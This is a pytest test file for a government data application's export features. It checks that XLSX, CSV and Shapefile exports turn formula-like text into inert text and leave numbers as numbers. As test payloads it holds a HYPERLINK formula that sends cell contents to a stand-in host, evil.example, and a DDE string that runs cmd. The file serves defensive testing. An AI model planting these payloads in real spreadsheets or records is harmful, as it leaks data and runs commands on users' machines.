"""D3 (issue 11): text that a spreadsheet would run as a formula is written as text by every
spreadsheet and CSV writer (XLSX from openpyxl, CSV from PostgreSQL's COPY, the Shapefile's
fields.csv); numbers stay numbers."""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import text

from gridgov.cells import safe_cell, safe_cell_sql
from gridgov.gis.layers import LAYERS
from gridgov.gis.queries import export_csv_sql
from tests.fixtures.world import VILLAGE_A, World

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
DDE = "=cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+2", "'=1+2"),
        ("+86 139", "'+86 139"),
        ("-3.5", "'-3.5"),  # text that looks like a number is still text
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("王建国", "王建国"),
        ("a=b", "a=b"),
        ("", ""),
        (-3.5, -3.5),  # numbers are never prefixed
        (-7, -7),
        (None, None),
    ],
)
def test_safe_cell(value, written, session):
    assert safe_cell(value) == written
    if isinstance(value, str):  # the SQL form of the same rule agrees with the Python one
        got = session.scalar(text(f"SELECT {safe_cell_sql(':v')}"), {"v": value})
        assert got == written


def test_csv_numbers_are_not_wrapped():
    sql = export_csv_sql(LAYERS["households"], "true")
    assert "t.size AS size" in sql  # an integer column is passed as it is
    assert "regexp_replace" in sql  # text columns go through the sanitiser


@pytest.fixture
def poisoned(engine, world: World) -> Iterator[None]:
    """Household A1-1 with formula text in its name and hamlet, committed (exports read
    committed data through their own connection) and put back afterwards."""
    household = world.households["A1-1"]
    with engine.begin() as conn:
        before = conn.execute(
            text("SELECT head_name, hamlet, address FROM households WHERE id = :id"),
            {"id": household},
        ).one()
        conn.execute(
            text(
                "UPDATE households SET head_name = :h, hamlet = :d, address = '@x' WHERE id = :id"
            ),
            {"h": HYPERLINK, "d": DDE, "id": household},
        )
    try:
        yield
    finally:
        with engine.begin() as conn:
            conn.execute(
                text(
                    "UPDATE households SET head_name = :h, hamlet = :d, address = :a WHERE id = :id"
                ),
                {"h": before[0], "d": before[1], "a": before[2], "id": household},
            )


def test_xlsx_formula_text_is_a_text_cell(client, as_user, tmp_path: Path, world: World, poisoned):
    response = client.get(
        f"/api/v1/exports/households.xlsx?village_code={VILLAGE_A}&pii=true",
        headers=as_user("county"),
    )
    assert response.status_code == 200, response.text
    path = tmp_path / "h.xlsx"
    path.write_bytes(response.content)
    sheet = load_workbook(path).worksheets[0]
    header = [c.value for c in sheet[1]]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == world.households["A1-1"])
    cells = dict(zip(header, row, strict=True))
    head = next(c for t, c in cells.items() if "户主" in str(t))
    hamlet = next(c for t, c in cells.items() if "村民小组" in str(t))
    assert head.data_type == "s" and head.value == "'" + HYPERLINK
    assert hamlet.data_type == "s" and hamlet.value == "'" + DDE
    # Nothing in the workbook is a formula.
    assert all(c.data_type != "f" for r in sheet.iter_rows() for c in r)
    assert b"<f>" not in zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml")
    # Numbers stay numbers: the id, the household size and the coordinates.
    assert isinstance(row[0].value, int) and row[0].data_type == "n"
    assert isinstance(row[-1].value, float) and isinstance(row[-2].value, float)


def test_csv_formula_text_is_prefixed(client, as_user, world: World, poisoned):
    response = client.get(
        f"/api/v1/exports/households.csv?village_code={VILLAGE_A}&pii=true",
        headers=as_user("county"),
    )
    assert response.status_code == 200, response.text
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    row = next(r for r in rows if int(r["id"]) == world.households["A1-1"])
    assert row["head_name"] == "'" + HYPERLINK
    assert row["hamlet"] == "'" + DDE
    assert row["size"].isdigit() and row["lon"] == "111.010000"
    for r in rows:
        for value in r.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), r


def test_shapefile_field_map_goes_through_the_sanitiser(client, as_user, tmp_path: Path):
    response = client.get("/api/v1/exports/households.shp.zip", headers=as_user("county"))
    assert response.status_code == 200, response.text
    with zipfile.ZipFile(io.BytesIO(response.content)) as zf:
        table = zf.read("fields.csv").decode("utf-8-sig")
    assert all(not line.startswith(("=", "+", "-", "@")) for line in table.splitlines())
